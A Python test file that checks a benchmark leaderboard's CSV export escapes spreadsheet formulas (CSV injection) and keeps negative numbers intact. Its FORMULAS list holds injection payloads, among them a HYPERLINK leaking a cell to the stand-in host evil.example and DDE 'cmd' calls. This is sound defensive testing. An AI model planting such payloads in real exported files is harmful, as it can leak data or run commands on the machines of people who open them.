"""leaderboard.csv cannot carry spreadsheet formulas (CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

from test_leaderboard import make_record, metric

from cxrbench.leaderboard import build_leaderboard
from cxrbench.leaderboard.csv_table import render_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(records):
    return list(csv.DictReader(io.StringIO(render_csv(build_leaderboard(records).track("smoke")))))


def test_text_cells_that_start_a_formula_are_quoted_as_text():
    records = [make_record(name, fid=10.0 + i, auc=0.6, distribution=f"dist-{i}") for i, name in enumerate(FORMULAS)]
    records[0]["plugin"]["distribution"] = "=1+1"
    records[1]["plugin"]["version"] = "@version"
    rows = csv_rows(records)
    # one row per entry, every formula quoted (a carriage return, which would split the row, is a line feed)
    assert sorted(row["model"] for row in rows) == sorted("'" + name.replace("\r", "\n") for name in FORMULAS)
    by_model = {row["model"]: row for row in rows}
    assert by_model["'" + FORMULAS[0]]["distribution"] == "'=1+1"
    assert by_model["'" + FORMULAS[1]]["version"] == "'@version"


def test_plain_text_and_negative_numbers_are_written_as_they_are():
    cnr = {"loc_word_cnr": metric(-0.25, -0.5, -0.125)}
    rows = csv_rows([make_record("alpha-1", fid=10.0, auc=0.6, extra=cnr, distribution="cxrbench-alpha")])
    [row] = rows
    assert (row["model"], row["distribution"], row["version"]) == ("alpha-1", "cxrbench-alpha", "1.0")
    assert (row["loc_word_cnr_mean"], row["loc_word_cnr_ci_low"], row["loc_word_cnr_ci_high"]) == ("-0.25", "-0.5",
                                                                                                   "-0.125")
